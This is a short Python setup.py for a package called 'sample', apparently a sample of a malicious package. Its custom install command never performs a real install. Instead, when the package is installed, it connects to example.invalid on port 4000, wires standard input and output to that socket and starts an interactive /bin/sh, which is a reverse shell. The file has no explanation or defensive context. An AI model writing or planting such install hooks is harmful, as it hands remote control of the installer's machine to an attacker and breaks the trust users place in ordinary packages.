import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        client.connect(("example.invalid", 4000))
        os.dup2(client.fileno(), 0)
        os.dup2(client.fileno(), 1)
        subprocess.call(["/bin/sh", "-i"])


setup(name="sample", cmdclass={"install": Install})
